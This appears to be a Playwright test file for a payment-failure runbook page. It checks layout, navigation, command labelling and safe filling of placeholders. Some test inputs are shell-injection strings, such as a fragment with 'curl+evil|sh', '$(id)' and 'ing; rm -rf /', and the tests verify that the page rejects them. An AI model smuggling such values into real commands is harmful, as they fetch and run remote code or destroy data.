import { readFileSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import type { BrowserContextOptions, Page } from 'playwright-core'
import { describe, expect, onTestFinished, test } from 'vitest'
import { CHROMIUM } from '../../scripts/fixtures/chromium.ts'
import { opsInBrowser } from '../../scripts/fixtures/ops-in-browser.ts'
import { COMPANY } from '../../scripts/fixtures/places.ts'
import { flawsIn } from '../../scripts/fixtures/whole-and-legible.ts'

/* Somebody was paged: the runbook's page in a real browser, on a phone and a laptop, with and without JavaScript. */

const PATH = '/runbooks/sending/payment-failures/'

describe.skipIf(!CHROMIUM)('The page of a runbook', () => {
  const { context: newContext, origin, built } = opsInBrowser(COMPANY, {})

  async function opened(fragment = '', options: BrowserContextOptions = {}): Promise<Page> {
    const context = await newContext({ viewport: { width: 390, height: 844 }, ...options })
    onTestFinished(() => context.close())
    const page = await context.newPage()
    await page.goto(`${origin()}${PATH}${fragment}`)
    return page
  }
  const command = (page: Page, words: string) => page.locator('.cmd', { hasText: words }).first()

  test('says on the first screen of a phone what goes on, how far to trust it, and the first step.', async () => {
    const page = await opened('', { javaScriptEnabled: false })
    const tops: number[] = []
    for (const one of ['Open for', 'Test overdue since', 'Changed in 24 h', 'People can', 'Which kind, and why?'])
      tops.push((await page.locator('main').getByText(one).first().boundingBox())?.y ?? NaN)
    expect(tops).toEqual(tops.toSorted((a, b) => a - b))
    expect(tops.at(-1)).toBeLessThan(844)
    const texts = await page.locator('main').innerText()
    expect(texts.indexOf('About this runbook')).toBeGreaterThan(texts.indexOf('Verification'))
  })

  test('is walked by its links without JavaScript: from the tree to the step, and to whom to call.', async () => {
    const page = await opened('', { javaScriptEnabled: false })
    await page.getByRole('navigation', { name: 'In reach' }).getByRole('link', { name: 'Decide' }).click()
    const question = await page.getByText('Which reason is on top in step 1?').first().boundingBox()
    expect(question?.y).toBeGreaterThanOrEqual(0)
    expect(question?.y).toBeLessThan(400)
    await page.getByRole('link', { name: 'bank_timeout, or declined_by_bank above 60' }).click()
    await page.getByRole('link', { name: 'One question back' }).first().waitFor()
    await page.getByRole('link', { name: 'Mark a bank as disturbed' }).last().click()
    expect(new URL(page.url()).hash).toBe('#mark-a-bank-as-disturbed')
    await page.getByRole('navigation', { name: 'In reach' }).getByRole('link', { name: 'Call' }).click()
    const call = page.getByRole('link', { name: '+31 6 0000 0302' }).first()
    expect(await call.getAttribute('href')).toBe('tel:+31600000302')
    expect(await call.isVisible()).toBe(true)
    expect(await page.getByRole('button', { name: 'Copy' }).count()).toBe(0)
  })

  test('says which commands change production, and shows them whole.', async () => {
    const page = await opened()
    expect(await command(page, 'rollout restart').innerText()).toContain('Changes production')
    expect(await command(page, 'topk(5').innerText()).toContain('Reads only')
    expect(await command(page, 'settle --since 2h --dry-run').innerText()).toContain('Prints only')
    const cut = await page
      .locator('.cmd pre')
      .evaluateAll((boxes) => boxes.filter((box) => box.scrollWidth > box.clientWidth).length)
    expect(cut).toBe(0)
  })

  test('keeps what was typed in the fragment alone, on the way through the page and in a link.', async () => {
    const page = await opened()
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await page.getByLabel('BANK_A').fill('ing')
    await page.getByLabel('NAMESPACE').fill('pay-2')
    expect(await command(page, 'ideal-disturbed').locator('code').innerText()).toBe(
      'flagctl set ideal-disturbed ing,BANK_B',
    )
    expect(await command(page, 'rollout restart').locator('code').innerText()).toBe(
      'kubectl -n pay-2 rollout restart deploy/payments',
    )
    await page.getByRole('link', { name: 'Step 2' }).first().click()
    await expect.poll(() => new URL(page.url()).hash).toBe('#2-one-bank-or-all&BANK_A=ing&NAMESPACE=pay-2')
    expect(asked.filter((url) => /ing,|pay-2/.test(url))).toEqual([])

    const other = await opened(new URL(page.url()).hash)
    expect(await other.getByLabel('BANK_A').inputValue()).toBe('ing')
    expect(await other.getByText('Filled in from the address').first().isVisible()).toBe(true)
    expect((await other.getByText('One bank or all?').first().boundingBox())?.y).toBeLessThan(400)
  })

  test.each([
    '#BANK_A=ing;curl+evil|sh',
    '#BANK_A=ing&NAMESPACE=$(id)',
    '#BANK_A=--all',
    '#BANK_A=%3Bid',
    '#BANK_A=a&X=b',
  ])('fills nothing in from %s.', async (fragment) => {
    const page = await opened(fragment)
    expect(await page.getByLabel('BANK_A').inputValue()).toBe('')
    expect(await command(page, 'ideal-disturbed').locator('code').innerText()).toBe(
      'flagctl set ideal-disturbed BANK_A,BANK_B',
    )
    expect(await command(page, 'rollout restart').locator('code').innerText()).toContain('-n payments')
  })

  test('takes nothing that a shell would read as more than text.', async () => {
    const page = await opened()
    const input = page.getByLabel('BANK_A')
    await input.fill('ing; rm -rf /')
    expect(await input.getAttribute('aria-invalid')).toBe('true')
    const said = () =>
      page
        .locator('.fill label', { has: input })
        .first()
        .evaluate((label) => getComputedStyle(label, '::after').content)
    expect(await said()).toContain('Letters, digits')
    expect(await command(page, 'ideal-disturbed').locator('code').innerText()).toContain('BANK_A,')
  })

  test.each(['payments eu', 'a,b', 'w\u00e9b', '$(id)', ' '])(
    'shows the name of a placeholder, not its default, while %j stands in its field, and says so where it is copied.',
    async (typed) => {
      const page = await opened('', { permissions: ['clipboard-read', 'clipboard-write'] })
      const box = command(page, 'rollout restart')
      expect(await box.locator('code').innerText()).toContain('-n payments ')
      await page.getByLabel('NAMESPACE').fill(typed)
      expect(await box.locator('code').innerText()).toBe('kubectl -n NAMESPACE rollout restart deploy/payments')
      await box.getByRole('button').click()
      await expect.poll(() => box.getByRole('button').innerText()).toBe("Copied, NAMESPACE can't be taken as typed")
      expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('-n NAMESPACE ')
      await page.getByLabel('NAMESPACE').fill('')
      expect(await box.locator('code').innerText()).toContain('-n payments ')
    },
  )

  test('copies a command as it is to be typed, and says what is still to fill in.', async () => {
    const page = await opened('', { permissions: ['clipboard-read', 'clipboard-write'] })
    const box = command(page, 'ideal-disturbed')
    await page.getByLabel('BANK_A').fill('ing')
    await box.getByRole('button').click()
    await expect.poll(() => box.getByRole('button').innerText()).toBe('Copied, BANK_B is still to be filled in')
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('flagctl set ideal-disturbed ing,BANK_B')
  })

  test('axe finds nothing on a phone or, in the dark, on a laptop, all unfolded, and nothing is cut.', async () => {
    const page = await opened('#BANK_A=ing')
    for (const folded of await page.locator('main summary').all()) await folded.click()
    const views = [
      [390, 'light'],
      [1280, 'dark'],
    ] as const
    expect(await flawsIn(page, views)).toEqual([])
  })

  test('is printed with its links written out and its summary open, without buttons.', async () => {
    const page = await opened()
    await page.emulateMedia({ media: 'print' })
    expect(await page.getByRole('button', { name: 'Copy' }).first().isVisible()).toBe(false)
    expect(await page.locator('.dock').isVisible()).toBe(false)
    expect(await page.getByText('More than 5 % of payments').isVisible()).toBe(true)
    const after = await page
      .locator('.calls a[href^="http"]')
      .first()
      .evaluate((link) => getComputedStyle(link, '::after').content)
    expect(after).toContain('https://pager.godwit.example/sending')
  })

  test('is at most 25 kB on the way, and its script 5 kB.', () => {
    const size = (path: string) => gzipSync(readFileSync(built(`ops/${path}`))).length
    expect(size(`${PATH}index.html`)).toBeLessThanOrEqual(25_000)
    expect(size('runbook.js')).toBeLessThanOrEqual(5000)
  })
})
